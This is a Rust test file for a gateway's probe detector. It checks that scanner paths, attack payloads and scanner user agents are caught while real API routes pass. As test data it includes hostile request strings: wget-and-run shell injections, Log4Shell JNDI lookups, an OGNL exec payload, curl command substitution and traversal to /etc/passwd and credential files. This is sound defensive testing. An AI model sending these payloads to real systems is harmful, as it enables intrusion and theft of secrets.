//! Recall and precision of the built-in probe list against realistic traffic.
//!
//! The scanner corpus is drawn from fail2ban's nginx-botsearch filter, CrowdSec's sec-lists,
//! OWASP CRS data files, CVE advisories and public honeypot reports (see docs/probes.md). The
//! legitimate corpus holds routes of real FastAPI, Django, Rails and Express applications that
//! look close to probes, plus the user agents of browsers and API client libraries.

use portcullis_policy::api::{ApiMatch, Spec};
use portcullis_policy::probes::{Category, ProbeMatcher, ProbeSettings};
use portcullis_policy::route_path;
use proptest::prelude::*;

fn builtin() -> ProbeMatcher {
    ProbeMatcher::new(&ProbeSettings::default()).expect("built-in list compiles")
}

/// Paths real scanners send, each with the category it must be attributed to.
const SCANNER_PATHS: &[(&str, Category)] = &[
    // Secrets and dotfiles.
    ("/.env", Category::Secrets),
    ("/api/.env", Category::Secrets),
    ("/app/.env", Category::Secrets),
    ("/laravel/.env", Category::Secrets),
    ("/backend/.env.local", Category::Secrets),
    ("/.env.production", Category::Secrets),
    ("/.env.bak", Category::Secrets),
    ("/.env.example", Category::Secrets),
    ("/sendgrid.env", Category::Secrets),
    ("/.envrc", Category::Secrets),
    ("/.aws/credentials", Category::Secrets),
    ("/.aws/config", Category::Secrets),
    ("/.ssh/id_rsa", Category::Secrets),
    ("/id_rsa", Category::Secrets),
    ("/server.key", Category::Secrets),
    ("/.docker/config.json", Category::Secrets),
    ("/.kube/config", Category::Secrets),
    ("/.npmrc", Category::Secrets),
    ("/.git-credentials", Category::Secrets),
    ("/.htpasswd", Category::Secrets),
    ("/.htaccess", Category::Secrets),
    ("/.bash_history", Category::Secrets),
    ("/.mysql_history", Category::Secrets),
    ("/.DS_Store", Category::Secrets),
    ("/.vscode/sftp.json", Category::Secrets),
    ("/sftp-config.json", Category::Secrets),
    ("/.idea/workspace.xml", Category::Secrets),
    ("/credentials.json", Category::Secrets),
    ("/config/secrets.yml", Category::Secrets),
    ("/config/database.yml", Category::Secrets),
    ("/config/master.key", Category::Secrets),
    ("/appsettings.json", Category::Secrets),
    ("/appsettings.Production.json", Category::Secrets),
    ("/web.config", Category::Secrets),
    ("/docker-compose.yml", Category::Secrets),
    ("/phpinfo.php", Category::Secrets),
    ("/info.php", Category::Secrets),
    ("/server-status", Category::Secrets),
    ("/storage/logs/laravel.log", Category::Secrets),
    ("/debug.log", Category::Secrets),
    ("/_profiler/phpinfo", Category::Secrets),
    ("/terraform.tfstate", Category::Secrets),
    // Version control.
    ("/.git/config", Category::VersionControl),
    ("/.git/HEAD", Category::VersionControl),
    ("/static/.git/index", Category::VersionControl),
    ("/.gitconfig", Category::VersionControl),
    ("/.svn/entries", Category::VersionControl),
    ("/.svn/wc.db", Category::VersionControl),
    ("/.hg/hgrc", Category::VersionControl),
    ("/CVS/Root", Category::VersionControl),
    // WordPress and CMS.
    ("/wp-login.php", Category::Cms),
    ("/wordpress/wp-login.php", Category::Cms),
    ("/blog/wp-login.php", Category::Cms),
    ("/wp/wp-admin/setup-config.php", Category::Cms),
    ("/wp-admin/", Category::Cms),
    ("/wp-admin/install.php", Category::Cms),
    ("/wp-content/plugins/wp-file-manager/readme.txt", Category::Cms),
    ("/wp-includes/wlwmanifest.xml", Category::Cms),
    ("/xmlrpc.php", Category::Cms),
    ("/wp-config.php", Category::Cms),
    ("/wp-config.php.bak", Category::Cms),
    ("/wp-config.php~", Category::Cms),
    ("/administrator/index.php", Category::Cms),
    ("/administrator/manifests/files/joomla.xml", Category::Cms),
    ("/configuration.php", Category::Cms),
    ("/sites/default/settings.php", Category::Cms),
    ("/app/etc/env.php", Category::Cms),
    ("/_ignition/execute-solution", Category::Cms),
    // PHP admin panels and shells.
    ("/phpmyadmin/", Category::PhpAdmin),
    ("/phpMyAdmin/index.php", Category::PhpAdmin),
    ("/phpmyadmin4.8.5/index.php", Category::PhpAdmin),
    ("/admin/phpmyadmin/", Category::PhpAdmin),
    ("/myadmin/scripts/setup.php", Category::PhpAdmin),
    ("/mysqladmin/", Category::PhpAdmin),
    ("/pma/", Category::PhpAdmin),
    ("/PMA2018/", Category::PhpAdmin),
    ("/db/index.php", Category::PhpAdmin),
    ("/adminer.php", Category::PhpAdmin),
    ("/adminer-4.8.1.php", Category::PhpAdmin),
    (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        Category::PhpAdmin,
    ),
    (
        "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        Category::PhpAdmin,
    ),
    ("/vendor/phpunit/phpunit/LICENSE", Category::PhpAdmin),
    ("/c99.php", Category::PhpAdmin),
    ("/wso.php", Category::PhpAdmin),
    ("/alfa.php", Category::PhpAdmin),
    ("/xleet.php", Category::PhpAdmin),
    ("/shell.php", Category::PhpAdmin),
    ("/uploads/cmd.jsp", Category::PhpAdmin),
    ("/setup.php", Category::PhpAdmin),
    ("/thinkphp/html/public/index.php", Category::PhpAdmin),
    // CGI, routers, IoT and appliances.
    ("/cgi-bin/luci/;stok=/locale", Category::CgiIot),
    ("/cgi-bin/ViewLog.asp", Category::CgiIot),
    ("/cgi-bin/nas_sharing.cgi", Category::CgiIot),
    ("/setup.cgi", Category::CgiIot),
    ("/boaform/admin/formLogin", Category::CgiIot),
    ("/goform/set_LimitClient_cfg", Category::CgiIot),
    ("/HNAP1/", Category::CgiIot),
    ("/GponForm/diag_Form", Category::CgiIot),
    ("/picsdesc.xml", Category::CgiIot),
    ("/ctrlt/DeviceUpgrade_1", Category::CgiIot),
    ("/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x.sh", Category::Signature),
    ("/device.rsp", Category::CgiIot),
    ("/mgmt/tm/util/bash", Category::CgiIot),
    (
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        Category::Signature,
    ),
    ("/dana-na/auth/url_default/welcome.cgi", Category::CgiIot),
    ("/global-protect/login.esp", Category::CgiIot),
    ("/+CSCOE+/logon.html", Category::CgiIot),
    ("/owa/auth/logon.aspx", Category::CgiIot),
    // Java and app-server consoles.
    ("/manager/html", Category::JavaConsole),
    ("/host-manager/html", Category::JavaConsole),
    ("/jmx-console/", Category::JavaConsole),
    ("/invoker/JMXInvokerServlet", Category::JavaConsole),
    ("/wls-wsat/CoordinatorPortType", Category::JavaConsole),
    ("/_async/AsyncResponseService", Category::JavaConsole),
    ("/console/login/LoginForm.jsp", Category::JavaConsole),
    ("/actuator/env", Category::JavaConsole),
    ("/actuator/heapdump", Category::JavaConsole),
    ("/actuator/gateway/routes", Category::JavaConsole),
    ("/api/actuator/env", Category::JavaConsole),
    ("/jolokia/list", Category::JavaConsole),
    ("/heapdump", Category::JavaConsole),
    ("/WEB-INF/web.xml", Category::JavaConsole),
    ("/jenkins/script", Category::JavaConsole),
    ("/solr/admin/cores", Category::JavaConsole),
    ("/nacos/v1/auth/users", Category::JavaConsole),
    ("/druid/index.html", Category::JavaConsole),
    ("/ws/v1/cluster/apps/new-application", Category::JavaConsole),
    ("/${jndi:ldap://1.2.3.4/a}", Category::Signature),
    (
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
        Category::Signature,
    ),
    // Backups and dumps.
    ("/backup.zip", Category::Backups),
    ("/backup.tar.gz", Category::Backups),
    ("/www.zip", Category::Backups),
    ("/site.rar", Category::Backups),
    ("/public_html.tar.gz", Category::Backups),
    ("/dump.sql", Category::Backups),
    ("/db.sql.gz", Category::Backups),
    ("/database.sql", Category::Backups),
    ("/backup/mysql.sql", Category::Backups),
    ("/index.php.bak", Category::Backups),
    ("/config.php~", Category::Backups),
    ("/config.php.save", Category::Backups),
    ("/.index.php.swp", Category::Backups),
    ("/settings.py.orig", Category::Backups),
    ("/db.sqlite3", Category::Backups),
    ("/nice%20ports%2C/Tri%6Eity.txt%2ebak", Category::Backups),
    // Path traversal and encoding tricks.
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", Category::Traversal),
    ("/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", Category::Traversal),
    ("/icons/.%2e/%2e%2e/%2e%2e/etc/passwd", Category::Traversal),
    ("/%252e%252e/%252e%252e/etc/passwd", Category::Traversal),
    ("/..%2f..%2f..%2fetc/passwd", Category::Traversal),
    ("/..\\..\\..\\windows\\win.ini", Category::Traversal),
    ("/static/..%5c..%5c..%5cwindows/win.ini", Category::Traversal),
    ("/mifs/..;/services/LogService", Category::Traversal),
    ("/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml", Category::Traversal),
    ("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", Category::Traversal),
    ("/download/file.php%00.jpg", Category::Traversal),
    ("/proc/self/environ", Category::Signature),
    ("/windows/win.ini", Category::Traversal),
    ("/index.php/php://filter/resource=index", Category::Signature),
];

/// User agents of scanning tools, as they appear in access logs.
const SCANNER_AGENTS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "gobuster/3.6",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Acunetix-Product",
    "Mozilla/5.0 (compatible; Nessus)",
    "WhatWeb/0.5.5",
    "Mozilla/5.0 Jorgee",
    "ZmEu",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) Morfeus Fucking Scanner",
    "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv)",
    "l9explore/1.2.2",
    "Hello, World",
    "Hello World",
    "Wfuzz/3.1.0",
];

/// Routes of real APIs that sit close to probe rules and must pass.
const LEGITIMATE_PATHS: &[&str] = &[
    "/",
    "/api/v1/search?q=.env",
    "/api/v1/search?q=/etc/passwd",
    "/blog/how-to-use-dotenv-files",
    "/blog/wordpress-vs-ghost",
    "/users/admin",
    "/admin/users",
    "/admin",
    "/admin/login",
    "/login",
    "/logout",
    "/static/app.js",
    "/static/js/main.3f2a1b.js",
    "/static/css/site.css",
    "/assets/application-6f1e.css",
    "/.well-known/acme-challenge/Xa9_bQ-k",
    "/.well-known/security.txt",
    "/.well-known/openid-configuration",
    "/.well-known/jwks.json",
    "/robots.txt",
    "/favicon.ico",
    "/apple-touch-icon.png",
    "/sitemap.xml",
    "/manifest.json",
    "/api/v1/config",
    "/config.json",
    "/api/config/features",
    "/api/wp/posts",
    "/api/v2/environments/production",
    "/api/v1/envs",
    "/api/v1/settings",
    "/api/v1/secrets",
    "/api/v1/secrets/db-password",
    "/api/v1/credentials",
    "/docs",
    "/redoc",
    "/openapi.json",
    "/swagger.json",
    "/swagger-ui/index.html",
    "/health",
    "/healthz",
    "/readyz",
    "/metrics",
    "/actuator/health",
    "/actuator/info",
    "/graphql",
    "/api/graphql",
    "/auth/token",
    "/oauth/authorize",
    "/api/v1/users/42/avatar.png",
    "/api/v1/users/me",
    "/api/v1/orders/2024-01-01/items",
    "/api/v1/files/report.pdf",
    "/api/v1/exports/report.csv",
    "/api/v1/backups",
    "/api/v1/backups/123/restore",
    "/api/v1/shell-scripts",
    "/api/v1/git/repos/portcullis/commits",
    "/api/v1/repos/foo/.github-workflows",
    "/repos/portcullis/.github/workflows/ci.yml",
    "/django-admin/",
    "/admin/auth/user/1/change/",
    "/rails/active_storage/blobs/redirect/eyJfcmFpbHMi/photo.jpg",
    "/users/1.json",
    "/users/sign_in",
    "/posts/42/comments.json",
    "/api/v1/manager/reports",
    "/console/dashboard",
    "/vendor/42/products",
    "/vendors",
    "/api/v1/scripts/run",
    "/api/v1/db/stats",
    "/api/v1/mysql/instances",
    "/api/v1/cgi/settings",
    "/api/v1/data.json",
    "/downloads/app-1.2.3.tar.gz",
    "/files/a%2520b.txt",
    "/api/v1/search/100%25",
    "/api/v1/items/a%2Fb",
    "/api/v1/items/../items/7",
    "/api/v1/items;v=2",
    "/API/V1/Users",
    "/ws",
    "/socket.io/?EIO=4&transport=polling",
    "/sockjs-node/info",
    "/_next/static/chunks/main.js",
    "/__webpack_hmr",
    "/static/env.js",
    "/environment",
    "/api/v1/passwd-reset",
    "/api/v1/etc/passwords",
    "/api/v1/hosts",
];

/// User agents of browsers, crawlers, monitors and API client libraries.
const LEGITIMATE_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
    "curl/8.5.0",
    "curl/7.68.0",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "aiohttp/3.9.3",
    "Python-urllib/3.11",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "undici",
    "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Wget/1.21.4",
    "PostmanRuntime/7.37.3",
    "insomnia/2023.5.8",
    "HTTPie/3.2.2",
    "Dart/3.3 (dart:io)",
    "Faraday v2.9.0",
    "Ruby",
    "GuzzleHttp/7",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Prometheus/2.51.0",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "Let's Encrypt validation server",
    "UptimeRobot/2.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "GitHub-Hookshot/8e0b7f8",
    "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393",
];

#[test]
fn every_scanner_path_is_caught_in_its_category() {
    let matcher = builtin();
    let mut failures = Vec::new();
    for &(path, expected) in SCANNER_PATHS {
        match matcher.check(path.as_bytes(), None) {
            Some(hit) if hit.category == expected => {}
            other => failures.push(format!("{path}: expected {expected:?}, got {other:?}")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(
        SCANNER_PATHS.len() >= 100,
        "corpus has {}",
        SCANNER_PATHS.len()
    );
}

#[test]
fn every_scanner_agent_is_caught() {
    let matcher = builtin();
    for agent in SCANNER_AGENTS {
        let hit = matcher.check(b"/", Some(agent.as_bytes()));
        assert_eq!(
            hit.map(|h| h.category),
            Some(Category::ScannerAgent),
            "{agent}"
        );
    }
}

#[test]
fn every_legitimate_request_passes() {
    let matcher = builtin();
    let mut failures = Vec::new();
    for path in LEGITIMATE_PATHS {
        for agent in LEGITIMATE_AGENTS
            .iter()
            .map(|a| Some(a.as_bytes()))
            .chain([None])
        {
            if let Some(hit) = matcher.check(path.as_bytes(), agent) {
                failures.push(format!(
                    "{path} ({:?}): {hit:?}",
                    agent.map(String::from_utf8_lossy)
                ));
            }
        }
    }
    failures.dedup();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(LEGITIMATE_PATHS.len() >= 50);
}

#[test]
fn the_allow_list_in_the_config_sketch_keeps_acme_challenges_open() {
    let matcher = ProbeMatcher::new(&ProbeSettings {
        allow: vec!["/.well-known/acme-challenge/".into()],
        ..ProbeSettings::default()
    })
    .unwrap();
    assert!(matcher
        .check(b"/.well-known/acme-challenge/x.php.bak", None)
        .is_none());
    assert!(matcher.check(b"/.well-known/../.env", None).is_some());
}

#[test]
fn a_thousand_custom_rules_build_and_match() {
    let settings = ProbeSettings {
        paths: (0..400).map(|i| format!("/custom/exact/{i}")).collect(),
        prefixes: (0..400).map(|i| format!("/custom/prefix/{i}/")).collect(),
        regex: (0..200).map(|i| format!(r"^/custom/re/{i}/\d+$")).collect(),
        ..ProbeSettings::default()
    };
    let matcher = ProbeMatcher::new(&settings).unwrap();
    assert!(matcher.rule_count() > 1000);
    assert!(matcher.check(b"/custom/exact/399", None).is_some());
    assert!(matcher.check(b"/custom/exact/3999", None).is_none());
    assert!(matcher.check(b"/custom/prefix/7/x", None).is_some());
    assert!(matcher.check(b"/custom/re/199/12", None).is_some());
    assert!(matcher.check(b"/custom/re/199/x", None).is_none());
    assert!(matcher.check(b"/api/v1/users", None).is_none());
}

proptest! {
    #[test]
    fn check_never_panics_on_arbitrary_bytes(
        path in proptest::collection::vec(any::<u8>(), 0..200),
        agent in proptest::option::of(proptest::collection::vec(any::<u8>(), 0..100)),
    ) {
        let matcher = builtin_shared();
        let _ = matcher.check(&path, agent.as_deref());
    }

    #[test]
    fn canonical_paths_are_clean(path in "[/a-zA-Z.;%2e5cf\\\\]{0,40}") {
        let canonical = portcullis_policy::probes::canonicalize(path.as_bytes());
        let text = canonical.path;
        prop_assert!(text.starts_with(b"/"));
        prop_assert!(!text.windows(2).any(|w| w == b"//"));
        prop_assert!(!text.contains(&b'\\'));
        prop_assert!(!text.contains(&b';'));
        prop_assert!(!text.iter().any(|b| b.is_ascii_uppercase()));
        for segment in text.split(|&b| b == b'/') {
            prop_assert!(segment != b"." && segment != b"..", "dot segment left in {:?}", text);
        }
    }
}

fn builtin_shared() -> &'static ProbeMatcher {
    static MATCHER: std::sync::OnceLock<ProbeMatcher> = std::sync::OnceLock::new();
    MATCHER.get_or_init(builtin)
}

// ------------------------------------------------------------------ measured corpora

fn corpus_lines(name: &str) -> Vec<String> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpora/probes")
        .join(name);
    std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(String::from)
        .collect()
}

/// Requests an API could legitimately receive, so no path rule can refuse them on sight even
/// when a scanner sends them. Excluded from the "probe-shaped" recall figure, kept in the raw one.
fn api_could_receive(target: &str) -> bool {
    let path = target.split(['?', '#']).next().unwrap_or(target);
    matches!(
        path.trim_end_matches('/'),
        "" | "/favicon.ico" | "/robots.txt" | "/sitemap.xml" | "/.well-known/security.txt"
    )
}

#[test]
fn captured_scanner_corpus_recall_without_a_spec() {
    let matcher = builtin();
    let lines = corpus_lines("scanners-captured.txt");
    assert!(lines.len() >= 40, "only {} captured requests", lines.len());
    let mut refused = 0;
    let mut probe_shaped = 0;
    let mut probe_shaped_refused = 0;
    let mut missed = Vec::new();
    let mut by_category = std::collections::BTreeMap::new();
    for target in &lines {
        let hit = matcher.check(target.as_bytes(), None);
        let shaped = !api_could_receive(target);
        probe_shaped += usize::from(shaped);
        match hit {
            Some(hit) => {
                refused += 1;
                probe_shaped_refused += usize::from(shaped);
                *by_category.entry(hit.category.as_str()).or_insert(0) += 1;
            }
            None => missed.push(target.as_str()),
        }
    }
    let raw = refused as f64 / lines.len() as f64;
    let shaped = probe_shaped_refused as f64 / probe_shaped.max(1) as f64;
    println!(
        "captured scanners: {refused}/{} refused on first hit ({:.1}%), probe-shaped {probe_shaped_refused}/{probe_shaped} ({:.1}%)",
        lines.len(),
        raw * 100.0,
        shaped * 100.0
    );
    println!("by category: {by_category:?}");
    println!("missed: {missed:#?}");
    assert!(
        shaped >= 0.85,
        "recall {shaped:.3} below 0.85; missed {missed:?}"
    );
}

#[test]
fn near_miss_corpus_passes() {
    let matcher = builtin();
    let lines = corpus_lines("legit-near-miss.txt");
    assert!(
        lines.len() >= 150,
        "only {} near-miss requests",
        lines.len()
    );
    let refused: Vec<_> = lines
        .iter()
        .filter_map(|target| {
            matcher
                .check(target.as_bytes(), Some(b"python-requests/2.31.0"))
                .map(|hit| format!("{target}: {} {}", hit.category.as_str(), hit.rule))
        })
        .collect();
    println!(
        "near-miss (real API templates): {}/{} refused",
        refused.len(),
        lines.len()
    );
    assert!(refused.is_empty(), "{}", refused.join("\n"));
}

/// The real specs in `tests/corpora/api/`.
const SPECS: [&str; 4] = [
    "petstore3-openapi.yaml",
    "fastapi-full-stack-template-openapi.json",
    "uspto-openapi.json",
    "uber-swagger.json",
];

/// The `paths` templates of the real specs in `tests/corpora/api/`, with their base path.
fn spec_templates() -> Vec<(String, String)> {
    SPECS
        .iter()
        .flat_map(|name| spec_templates_of(name))
        .collect()
}

/// The `paths` templates of the spec `name`, with its base path.
fn spec_templates_of(name: &str) -> Vec<(String, String)> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpora/api");
    let text = std::fs::read_to_string(dir.join(name)).expect("spec");
    let doc: serde_json::Value = if name.ends_with(".yaml") {
        serde_yaml::from_str(&text).expect("yaml")
    } else {
        serde_json::from_str(&text).expect("json")
    };
    let base = doc["basePath"]
        .as_str()
        .map(String::from)
        .or_else(|| {
            doc["servers"][0]["url"].as_str().map(|url| {
                let rest = url.split("://").nth(1).unwrap_or(url);
                rest.find('/')
                    .map(|i| rest[i..].to_string())
                    .unwrap_or_default()
            })
        })
        .unwrap_or_default();
    let base = base.trim_end_matches('/').to_string();
    doc["paths"]
        .as_object()
        .expect("paths")
        .keys()
        .map(|template| (base.clone(), template.clone()))
        .collect()
}

#[test]
fn real_api_spec_routes_pass_with_probe_looking_values() {
    let matcher = builtin();
    let values = [
        "42",
        "phpmyadmin",
        "admin",
        "wp-admin",
        "config.json",
        "backup.sql",
        ".env.example",
        "cgi-bin",
    ];
    let mut checked = 0;
    let mut refused = Vec::new();
    for (base, template) in spec_templates() {
        for value in values {
            let path = fill(&base, &template, value);
            checked += 1;
            if let Some(hit) = matcher.check(path.as_bytes(), None) {
                refused.push(format!("{path}: {hit:?}"));
            }
        }
    }
    println!(
        "real API specs: {}/{checked} instantiated routes refused",
        refused.len()
    );
    assert!(checked > 200, "only {checked}");
    assert!(refused.is_empty(), "{}", refused.join("\n"));
}

/// `%XX` for every byte of `text` except unreserved letters and digits, and `/` if `keep_slash`.
fn percent_encode(text: &str, keep_slash: bool) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || (keep_slash && b == b'/') {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Alternating case, to defeat case-sensitive filters.
fn case_varied(text: &str) -> String {
    text.chars()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

#[test]
fn every_signature_catches_its_real_sample_and_encoded_variants() {
    let matcher = builtin();
    let list = portcullis_policy::probes::builtin_entries().unwrap();
    assert!(list.signatures.len() >= 8);
    for signature in &list.signatures {
        let sample = signature.sample.as_str();
        let (path, query) = sample.split_once('?').unwrap_or((sample, ""));
        let mut variants = vec![sample.to_string(), case_varied(sample)];
        if query.is_empty() {
            // Payload in the path: encoded path (slashes kept, else they are data).
            variants.push(percent_encode(path, true));
        } else {
            let encoded = percent_encode(query, false);
            variants.push(format!("{path}?{encoded}"));
            variants.push(format!("{path}?{}", encoded.replace('%', "%25")));
            variants.push(format!("{path}?{}", case_varied(&encoded)));
        }
        for variant in variants {
            let hit = matcher.check(variant.as_bytes(), None);
            assert!(
                hit.is_some(),
                "{}: variant {variant} passed",
                signature.reason
            );
        }
        assert_eq!(
            matcher.check(sample.as_bytes(), None).map(|h| h.category),
            Some(Category::Signature),
            "{sample}"
        );
    }
}

#[test]
fn log4shell_obfuscations_and_other_payloads_are_signatures() {
    let matcher = builtin();
    for target in [
        "/?q=${jndi:ldap://x.example/a}",
        "/api/v1/users?name=${${lower:j}ndi:ldap://x/a}",
        "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
        "/%24%7Bjndi:dns://x/a%7D",
        "/?a=%2524%257Bjndi:ldap://x/a%257D",
        "/?cmd=${IFS}cat${IFS}/etc/passwd",
        "/?h=127.0.0.1;wget%20http://x/x.sh",
        "/?h=x|sh",
        "/?h=echo+aWQ=|base64+-d",
        "/?h=`id`",
        "/?h=$(curl+x.example)",
        "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        "/?page=data://text/plain;base64,PD9waHA=",
        "/index.php?s=index/think\\app/invokefunction",
        "/index.php?+config-create+/&lang=../../../../usr/local/lib/php/pearcmd&/<?=phpinfo()?>+/tmp/x.php",
        "/download?file=..%2f..%2f..%2fetc%2fpasswd",
        "/download?file=..%252f..%252fetc%252fpasswd",
        "/?f=/proc/self/environ",
        "/?class.module.classLoader.URLs%5B0%5D=0",
    ] {
        let hit = matcher.check(target.as_bytes(), None);
        assert_eq!(
            hit.as_ref().map(|h| h.category),
            Some(Category::Signature),
            "{target}: {hit:?}"
        );
    }
    // Ordinary query values that merely mention the words.
    for target in [
        "/api/v1/search?q=log4j",
        "/api/v1/search?q=jndi",
        "/api/v1/search?q=how+to+use+wget",
        "/api/v1/search?q=curl+example",
        "/api/v1/items?sort=-created&filter=a|b",
        "/api/v1/docs?path=docs/../README.md",
        "/api/v1/search?q=/etc/passwd",
        "/api/v1/price?expr=$100",
        "/api/v1/template?text=Hello+${name}",
        "/api/v1/classes?class=module",
    ] {
        assert_eq!(matcher.check(target.as_bytes(), None), None, "{target}");
    }
}

/// The gateway's walk with a spec (crates/portcullis/src/filters.rs `admit`): a request is
/// refused when the spec does not declare it, or when it is a probe that the spec cannot
/// vouch for (payload signatures, structural checks and scanner agents apply to declared
/// requests too; path lists and the extension rule do not).
fn refused_with_spec(spec: &Spec, matcher: &ProbeMatcher, method: &str, target: &str) -> bool {
    let path = target.split(['?', '#']).next().unwrap_or(target);
    let mut normalized = Vec::new();
    let verdict = match route_path::normalize(path.as_bytes(), &mut normalized) {
        Ok(()) => spec.check(method.as_bytes(), &normalized),
        // Not normalizable: nginx and the gateway answer 400.
        Err(_) => return true,
    };
    let declared = matches!(verdict, ApiMatch::Known | ApiMatch::Extra);
    let probe = matcher.check(target.as_bytes(), None).is_some_and(|hit| {
        !declared
            || matches!(
                hit.category,
                Category::Traversal | Category::ScannerAgent | Category::Signature
            )
    });
    probe || !declared
}

/// Goals of the "Know the API" issue with a spec: at least 98 % of the captured scanner
/// requests refused on first hit, and none of the API's own requests, for each real spec.
#[test]
fn with_a_spec_scanners_are_refused_and_the_apis_own_requests_pass() {
    let matcher = builtin();
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpora/api");
    let scanners = corpus_lines("scanners-captured.txt");
    // OPTIONS passes on every declared path, so each template is tried whatever its methods.
    let values = [
        "42",
        "phpmyadmin",
        "wp-login.php",
        ".env.example",
        "backup.sql",
        "cgi-bin",
    ];
    for name in SPECS {
        let spec = Spec::parse(&std::fs::read(dir.join(name)).expect("spec")).expect(name);
        let refused = scanners
            .iter()
            .filter(|t| refused_with_spec(&spec, &matcher, "GET", t))
            .count();
        let recall = refused as f64 / scanners.len() as f64;
        // The API's own requests: every template of this spec, filled with probe-looking values.
        let mut own = 0;
        let mut wrongly = Vec::new();
        for (base, template) in spec_templates_of(name) {
            for value in values {
                let path = fill(&base, &template, value);
                own += 1;
                if refused_with_spec(&spec, &matcher, "OPTIONS", &path) {
                    wrongly.push(path);
                }
            }
        }
        println!(
            "with {name}: captured scanners {refused}/{} refused ({:.1}%); own requests {}/{own} refused",
            scanners.len(),
            recall * 100.0,
            wrongly.len()
        );
        assert!(recall >= 0.98, "{name}: recall {recall:.3}");
        assert!(wrongly.is_empty(), "{name}: {wrongly:?}");
    }
}

/// `template` under `base` with every `{param}` replaced by `value`.
fn fill(base: &str, template: &str, value: &str) -> String {
    let mut path = base.to_string();
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        path.push_str(&rest[..open]);
        path.push_str(value);
        let close = rest[open..].find('}').map_or(rest.len(), |c| c + open + 1);
        rest = &rest[close.min(rest.len())..];
    }
    path.push_str(rest);
    path
}
